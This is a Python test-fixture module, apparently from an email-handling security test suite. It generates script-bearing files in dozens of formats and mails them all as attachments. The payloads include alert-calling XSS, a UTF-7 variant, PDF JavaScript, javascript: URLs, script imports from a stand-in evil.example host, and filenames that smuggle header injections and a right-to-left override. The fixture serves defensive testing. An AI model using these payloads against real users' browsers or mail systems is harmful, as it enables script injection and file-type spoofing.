"""Files that a browser would run, if only somebody served them so: each calls alert(§) the way its kind can."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from email.message import EmailMessage
from gzip import compress

_XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(§)</script></body></html>'
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(§)"><script>alert(§)</script>'
    '<image href="//h§.evil.example/a"/></svg>'
)
_PAGE = "<!doctype html><script>alert(§)</script><img src=//h§.evil.example/a onerror=alert(§)>"
_SCRIPT = "globalThis.alert?.(§);self.postMessage?.(§);import('//h§.evil.example/a.js')"
_SHEET = "body{background:url(//h§.evil.example/a)}"
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><r xmlns:x="http://www.w3.org/1999/XSL/Transform">'
    '<x:stylesheet id="s" version="1.0"><x:template match="/"><html><script>alert(§)</script></html>'
    "</x:template></x:stylesheet></r>"
)
_PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(§))>>>>endobj\ntrailer<</Root 1 0 R>>"
_MHTML = (
    "From: <x>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
    f"{_PAGE}\n--b--\n"
)

# Name, the type that the letter claims, and the content.
ACTIVE: Mapping[str, tuple[str, str]] = {
    "trang.html": ("text/html", _PAGE),
    "trang.htm": ("text/html; charset=utf-7", "+ADw-script+AD4-alert(§)+ADw-/script+AD4-" + _PAGE),
    "trang.xhtml": ("application/xhtml+xml", _XHTML),
    "trang.xht": ("text/xml", _XHTML),
    "trang.shtml": ("text/plain", _PAGE),
    "trang.mht": ("multipart/related", _MHTML),
    "trang.mhtml": ("message/rfc822", _MHTML),
    "trang": ("", _PAGE),
    "trang.txt": ("text/plain", _PAGE),
    "trang.jpg": ("image/jpeg", _PAGE),
    "trang.php": ("application/x-httpd-php", "<?php ?>" + _PAGE),
    "hinh.svg": ("image/svg+xml", _SVG),
    "hinh.svgz": ("image/svg+xml", _SVG),
    "hinh.png": ("image/svg+xml", _SVG),
    "tep.xml": ("application/xml", _SVG),
    "tep.xsl": ("text/xsl", _XSLT),
    "tep.rdf": ("application/rdf+xml", _XHTML),
    "tep.mathml": (
        "application/mathml+xml",
        f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>{_XHTML}</mi></math>',
    ),
    "tep.pdf": ("application/pdf", _PDF),
    "tep.pdf.html": ("application/pdf", _PDF + _PAGE),
    "lenh.js": ("text/javascript", _SCRIPT),
    "lenh.mjs": ("application/javascript", _SCRIPT),
    "lenh.json": ("application/json", _SCRIPT),
    "lenh.css": ("text/css", _SHEET),
    "lenh.vtt": ("text/vtt", f"WEBVTT\n\n00:00.000 --> 00:09.000\n{_PAGE}"),
    "lenh.wasm": ("application/wasm", _SCRIPT),
    "lenh.hta": ("application/hta", _PAGE),
    "lenh.htc": ("text/x-component", _PAGE),
    "lenh.url": ("application/internet-shortcut", "[InternetShortcut]\nURL=javascript:alert(§)\n"),
    "lenh.webmanifest": ("application/manifest+json", '{"start_url":"javascript:alert(§)"}'),
    'ten"; x=.html': ("text/html", _PAGE),
    "ten\u202elmth.exe.html": ("text/html", _PAGE),
    "ten%0d%0aContent-Type: text%2fhtml.html": ("text/html", _PAGE),
}


@dataclass(frozen=True, kw_only=True)
class ActiveFile:
    """A file of its kind; `number` is what it calls alert with."""

    number: int
    name: str
    media_type: str
    content: bytes


def active_files() -> Sequence[ActiveFile]:
    """All of them, numbered from 2001."""
    return [
        ActiveFile(
            number=number,
            name=name,
            media_type=media_type,
            content=_written(name, text.replace("§", str(number))),
        )
        for number, (name, (media_type, text)) in enumerate(ACTIVE.items(), start=2001)
    ]


def letter_with_active_files(sender: str) -> bytes:
    """A letter that brings all of them, and is one itself."""
    letter = EmailMessage()
    letter["From"], letter["To"], letter["Subject"] = (
        sender,
        "bbt.anmau@songmau.example",
        "<script>alert(2000)</script>",
    )
    letter["Message-ID"], letter["Date"] = "<tep.song@songmau.example>", "Thu, 15 Oct 2026 08:00:00 +0700"
    letter.set_content(_PAGE.replace("§", "2000"), subtype="html")
    for file in active_files():
        main, _, sub = (file.media_type.partition(";")[0] or "application/octet-stream").partition("/")
        main, sub = ("application", "octet-stream") if main in {"multipart", "message"} else (main, sub)
        letter.add_attachment(file.content, maintype=main, subtype=sub, filename=file.name)
    return bytes(letter)


def _written(name: str, text: str) -> bytes:
    return compress(text.encode(), mtime=0) if name.endswith("z") else text.encode()
